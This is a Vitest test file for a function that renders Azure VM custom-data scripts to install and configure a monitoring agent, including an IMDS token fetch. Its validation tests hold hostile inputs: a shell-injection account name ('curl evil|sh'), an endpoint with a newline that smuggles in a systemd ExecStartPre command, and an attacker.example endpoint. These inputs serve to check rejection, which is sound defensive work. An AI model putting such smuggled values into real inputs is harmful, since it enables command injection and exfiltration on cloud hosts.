import { describe, expect, it } from "vitest";
import { readAzureAgentBundle } from "../../src/azure/agent-artifact.js";
import { type AzureAgentInstall, renderCustomData } from "../../src/azure/custom-data.js";
import { planPersona } from "../../src/plan/plan.js";
import { seedPersona } from "../aws/support.js";

// The source the components pass: the real bundle's digest.
const bundle = readAzureAgentBundle({ component: "test", name: "web" });
const install: AzureAgentInstall = {
  probeTargets: [{ name: "local-http", kind: "http", url: "http://127.0.0.1/" }],
  source: {
    accountName: "persweb0123456789ab",
    container: "personas-agent",
    blobName: "personas-agent-0123456789abcdef.cjs",
    clientId: "11111111-2222-3333-4444-555555555555",
    sha256: bundle.sha256,
  },
};

describe("renderCustomData (Azure custom data)", () => {
  const plan = planPersona(seedPersona);

  it("refuses an agent source that would leave its quotes, naming each bad value", () => {
    const hostile = {
      ...install,
      source: { ...install.source, accountName: "x'; curl evil|sh; '", clientId: "not-a-guid" },
    };
    expect(() => renderCustomData(plan, "ubuntu", hostile)).toThrow(
      "The personas agent source is invalid: accountName 'x'; curl evil|sh; '' (3 to 24 lowercase letters and digits); clientId 'not-a-guid' (a GUID).",
    );
  });

  it("refuses Logs Ingestion settings that would add a systemd line or send rows elsewhere, naming each bad value", () => {
    const hostile = {
      ...install,
      logsIngestion: {
        endpoint: "https://ok.westeurope-1.ingest.monitor.azure.com\nExecStartPre=/bin/sh -c evil",
        ruleId: "dcr-XYZ",
        stream: "Custom-Other_CL",
      },
    };
    expect(() => renderCustomData(plan, "ubuntu", hostile)).toThrow(
      "The personas agent's Logs Ingestion settings are invalid: endpoint 'https://ok.westeurope-1.ingest.monitor.azure.com\nExecStartPre=/bin/sh -c evil' (an https:// host name); ruleId 'dcr-XYZ' (dcr- and 32 lower-case hex digits); stream 'Custom-Other_CL' (Custom-PersonasAgentMetrics_CL).",
    );
    expect(() =>
      renderCustomData(plan, "ubuntu", {
        ...install,
        logsIngestion: {
          ...hostile.logsIngestion,
          endpoint: "http://attacker.example",
          ruleId: `dcr-${"0".repeat(32)}`,
          stream: "Custom-PersonasAgentMetrics_CL",
        },
      }),
    ).toThrow("endpoint 'http://attacker.example' (an https:// host name)");
  });

  it("gives the agent its Logs Ingestion endpoint, rule and stream as its unit's environment, and nothing without them", () => {
    const logsIngestion = {
      endpoint: "https://personas-agent-metrics-ab12.westeurope-1.ingest.monitor.azure.com",
      ruleId: `dcr-${"0123456789abcdef".repeat(2)}`,
      stream: "Custom-PersonasAgentMetrics_CL",
    };
    const script = renderCustomData(plan, "ubuntu", { ...install, logsIngestion });
    expect(script).toContain(
      [
        `Environment=PERSONAS_AGENT_LOGS_ENDPOINT=${logsIngestion.endpoint}`,
        `Environment=PERSONAS_AGENT_LOGS_RULE_ID=${logsIngestion.ruleId}`,
        "Environment=PERSONAS_AGENT_LOGS_STREAM=Custom-PersonasAgentMetrics_CL",
      ].join("\n"),
    );
    expect(renderCustomData(plan, "ubuntu", install)).not.toContain("PERSONAS_AGENT_LOGS_");
  });

  it("says what is missing when a persona needs the agent and no source is given", () => {
    expect(() => renderCustomData(plan, "ubuntu")).toThrow(
      "Persona HighTraffic needs the personas agent but no agent source was given; the Azure components upload the bundled agent to the fleet's storage account and pass it.",
    );
  });

  it("asks IMDS for a storage token of the given identity, never through a proxy, and drops the token after the download", () => {
    const script = renderCustomData(plan, "ubuntu", install);
    expect(script).toContain(
      "curl -fsS --noproxy '*' -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fstorage.azure.com%2F&client_id=11111111-2222-3333-4444-555555555555'",
    );
    expect(script.indexOf("unset PERSONAS_TOKEN")).toBeGreaterThan(
      script.indexOf("-o /tmp/personas-agent.cjs"),
    );
  });
});
